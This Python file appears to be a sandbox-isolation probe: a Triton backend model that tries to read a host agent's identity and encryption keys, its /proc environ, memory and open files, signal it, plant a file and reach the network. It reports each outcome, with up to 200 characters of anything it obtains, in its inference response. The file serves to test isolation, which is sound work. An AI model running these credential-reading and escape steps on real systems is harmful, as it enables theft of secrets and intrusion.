"""What hostile model code tries on a node. Each attempt's outcome goes back in REPORT:
`denied: <error>` when it failed, `GOT: <what it got>` when it did not."""

import json
import os
import socket
from pathlib import Path

import numpy as np
import triton_python_backend_utils as pb_utils


def _attempt(action):
    try:
        got = action()
    except Exception as error:
        return f"denied: {type(error).__name__}: {error}"
    return f"GOT: {str(got)[:200]}"


def _parent(pid):
    """A process's parent, from /proc/<pid>/stat (as any process may read it)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return int(fields[1])


def _agents_files(state):
    """The agent's own files the state directory shows (what else it holds is the sandbox's)."""
    mine = {"identity.key", "encryption.key", "tasks"} & set(os.listdir(state))
    if not mine:
        raise PermissionError("none of the agent's files is visible")
    return sorted(mine)


def _read_memory(pid):
    with Path(f"/proc/{pid}/mem").open("rb") as memory:
        return memory.read(16)


def _open_files(pid):
    """What the agent has open (its sockets, its files)."""
    return [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]


def _connect(target):
    host, port = target.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=2):
        return "connected"


class TritonPythonModel:
    def initialize(self, args):
        self.repository = Path(args["model_repository"]).parent
        config = json.loads(args["model_config"])
        self.targets = config["parameters"]["targets"]["string_value"].split(",")

    def _attacks(self):
        state = self.repository.parent  # the agent's state directory holds the repository
        triton = _parent(os.getpid())
        agent = _parent(triton)
        attacks = {
            "identity.key": (state / "identity.key").read_bytes,
            "encryption.key": (state / "encryption.key").read_bytes,
            "state directory": lambda: _agents_files(state),
            "task runs": lambda: os.listdir(state / "tasks"),
            "agent environ": Path(f"/proc/{agent}/environ").read_bytes,
            "agent memory": lambda: _read_memory(agent),
            "agent open files": lambda: _open_files(agent),
            "signal the agent": lambda: os.kill(agent, 0),
            "write another model": lambda: (self.repository / "planted").write_text("x"),
            "the internet": lambda: _connect("1.1.1.1:443"),
        }
        for target in self.targets:
            attacks[f"connect {target}"] = lambda target=target: _connect(target)
        report = {name: _attempt(action) for name, action in attacks.items()}
        report["agent pid"] = str(agent)
        report["environment"] = sorted(os.environ)
        return report

    def execute(self, requests):
        report = json.dumps(self._attacks()).encode()
        return [
            pb_utils.InferenceResponse(
                output_tensors=[pb_utils.Tensor("REPORT", np.array([report], dtype=np.object_))]
            )
            for _ in requests
        ]
